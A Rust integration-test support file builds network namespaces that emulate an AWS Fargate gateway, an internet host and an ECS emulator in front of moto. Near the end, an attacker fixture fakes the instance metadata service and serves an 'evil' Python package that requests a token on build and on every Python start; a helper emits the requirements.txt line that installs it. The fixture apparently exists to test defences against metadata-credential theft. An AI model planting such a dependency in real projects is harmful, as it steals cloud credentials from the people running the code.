//! The Fargate emulator's world. A gateway namespace (where the agent, its
//! dockerd, the broker it starts and the registry run) has a bridge on the
//! VPC's private side, holding the gateway's private address, and an uplink
//! to an "internet" namespace whose TCP server answers with the source
//! address it sees. `tests/support/fargate_emulator.py`, in front of moto,
//! runs the ECS service's tasks as containers of the registry's image, each
//! in its own network namespace on that bridge, and answers ListTasks,
//! DescribeTasks and StopTask for them.

use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

use crate::docker::Dockerd;
use crate::moto::Moto;
use crate::netns::{Forward, Netns, GATEWAY_OUTER, INTERNET};
use crate::{free_port, repo_root, venv_bin, Run};

/// The gateway's private address (in the default VPC's public subnet,
/// 192.168.1.0/24); the tasks' default route and the broker's address.
pub const GATEWAY_PRIVATE: &str = "192.168.1.10";
/// The bridge the tasks' veths join, in the gateway namespace.
pub const BRIDGE: &str = "fbr0";
/// The port of the internet host's TCP server.
pub const INTERNET_PORT: u16 = 8080;

fn ip(args: &[&str]) {
    let r = Run::of(Command::new("ip").args(args));
    assert_eq!(r.code, 0, "ip {}: {}", args.join(" "), r.stderr);
}

/// The gateway and internet namespaces.
#[derive(Debug)]
pub struct Gateway {
    /// The gateway: bridge `fbr0` (192.168.1.10/16) and uplink `gwout` (203.0.113.1).
    pub gw: Netns,
    /// The internet host (203.0.113.2), with a TCP server on 8080.
    pub inet: Netns,
    server: Child,
}

impl Gateway {
    /// Builds both namespaces and starts the internet host's server.
    pub fn new(tag: &str) -> Gateway {
        let gw = Netns::new(&format!("{tag}-g"));
        let inet = Netns::new(&format!("{tag}-i"));
        ip(&[
            "link", "add", "gwout", "netns", &gw.name, "type", "veth", "peer", "name", "inet0",
            "netns", &inet.name,
        ]);
        ip(&["-n", &gw.name, "link", "add", BRIDGE, "type", "bridge"]);
        let private = format!("{GATEWAY_PRIVATE}/16");
        let outer = format!("{GATEWAY_OUTER}/24");
        let internet = format!("{INTERNET}/24");
        ip(&["-n", &gw.name, "addr", "add", &private, "dev", BRIDGE]);
        ip(&["-n", &gw.name, "addr", "add", &outer, "dev", "gwout"]);
        ip(&["-n", &inet.name, "addr", "add", &internet, "dev", "inet0"]);
        for (ns, dev) in [(&gw, BRIDGE), (&gw, "gwout"), (&inet, "inet0")] {
            ip(&["-n", &ns.name, "link", "set", dev, "up"]);
        }
        ip(&["-n", &gw.name, "route", "add", "default", "via", INTERNET]);
        let server = inet
            .cmd("python3")
            .args(["-c", crate::netns::SERVER])
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("python3 for the internet host's server");
        crate::netns::wait_listening(Some(&inet), 8080);
        Gateway { gw, inet, server }
    }

    /// Where the agent's egress self-test connects.
    pub fn egress_target() -> String {
        format!("{INTERNET}:{INTERNET_PORT}")
    }
}

impl Drop for Gateway {
    fn drop(&mut self) {
        let _ = self.server.kill();
        let _ = self.server.wait();
    }
}

/// The running emulator: its endpoint (in front of moto) is
/// `http://127.0.0.1:PORT` both here and inside the gateway namespace.
#[derive(Debug)]
pub struct Emulator {
    child: Child,
    /// The endpoint URL to give the SDK, the agent and `fossa-bootstrap`.
    pub url: String,
    log: PathBuf,
    _forward: Forward,
}

impl Emulator {
    /// Starts it in front of `moto`, running tasks on `docker` (whose daemon
    /// runs in the gateway namespace) attached to the gateway's bridge.
    pub fn start(moto: &Moto, docker: &Dockerd, gateway: &Gateway, dir: &Path) -> Emulator {
        let port = free_port();
        let upstream = moto.url.rsplit(':').next().unwrap().to_owned();
        let log = dir.join("fargate-emulator.log");
        let child = Command::new(venv_bin("python"))
            .arg(repo_root().join("tests/support/fargate_emulator.py"))
            .args(["--listen", &port.to_string(), "--upstream", &upstream])
            .args(["--docker-host", &docker.host])
            .args(["--gateway-netns", &gateway.gw.name])
            .args(["--bridge", BRIDGE, "--gateway-ip", GATEWAY_PRIVATE])
            .args(["--region", crate::moto::REGION])
            .args(moto.enforces().then_some("--enforce-iam"))
            .envs(moto.env())
            .stdout(std::fs::File::create(&log).unwrap())
            .stderr(Stdio::from(
                std::fs::OpenOptions::new().append(true).open(&log).unwrap(),
            ))
            .spawn()
            .unwrap();
        crate::eventually_blocking(
            "the Fargate emulator answering",
            Duration::from_secs(20),
            || {
                crate::holds(
                    std::net::TcpStream::connect(("127.0.0.1", port)).is_ok(),
                    || std::fs::read_to_string(&log).unwrap_or_default(),
                )
            },
        );
        Emulator {
            child,
            url: format!("http://127.0.0.1:{port}"),
            log,
            _forward: Forward::out_of_ns(&gateway.gw, port),
        }
    }

    /// What it has logged: every task transition.
    pub fn log(&self) -> String {
        std::fs::read_to_string(&self.log).unwrap_or_default()
    }
}

impl Drop for Emulator {
    fn drop(&mut self) {
        // SIGTERM: it removes its task containers.
        let _ = Command::new("kill")
            .args(["-TERM", &self.child.id().to_string()])
            .status();
        crate::exited_within(&mut self.child, Duration::from_secs(20));
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// The port of the attacker's server on the internet host.
pub const ATTACKER_PORT: u16 = 8081;

/// An attacker on the internet host (`tests/support/imds_attacker.py`): a
/// stand-in for the instance metadata service at 169.254.169.254, and a
/// server for a package whose build and whose every Python start ask it for
/// a token. Both log every request. Killed on drop.
#[derive(Debug)]
pub struct Attacker {
    child: Child,
    log: PathBuf,
}

impl Attacker {
    /// Starts it in `gateway`'s internet namespace, logging to `dir`.
    pub fn start(gateway: &Gateway, dir: &Path) -> Attacker {
        // The metadata address lives on the internet host: from the
        // gateway it is one more hop out of its uplink, where the real
        // service is one hop off the instance.
        ip(&[
            "-n",
            &gateway.inet.name,
            "addr",
            "add",
            "169.254.169.254/32",
            "dev",
            "lo",
        ]);
        let log = dir.join("attacker.log");
        std::fs::write(&log, "").unwrap();
        let child = gateway
            .inet
            .cmd("python3")
            .arg(repo_root().join("tests/support/imds_attacker.py"))
            .arg(&log)
            .arg(INTERNET)
            .arg(ATTACKER_PORT.to_string())
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(dir.join("attacker.err")).unwrap())
            .spawn()
            .expect("python3 for the attacker's server");
        crate::netns::wait_listening(Some(&gateway.inet), ATTACKER_PORT);
        crate::netns::wait_listening(Some(&gateway.inet), 80);
        Attacker { child, log }
    }

    /// The `requirements.txt` line that installs the attacker's package.
    pub fn requirement() -> String {
        format!("evil @ http://{INTERNET}:{ATTACKER_PORT}/evil-1.0.tar.gz\n")
    }

    /// Every request so far, as `<local address> <method> <path>`.
    pub fn requests(&self) -> Vec<String> {
        std::fs::read_to_string(&self.log)
            .unwrap_or_default()
            .lines()
            .map(str::to_owned)
            .collect()
    }

    /// The requests the metadata stand-in answered.
    pub fn imds_requests(&self) -> Vec<String> {
        self.requests()
            .into_iter()
            .filter(|r| r.starts_with("169.254.169.254 "))
            .collect()
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}
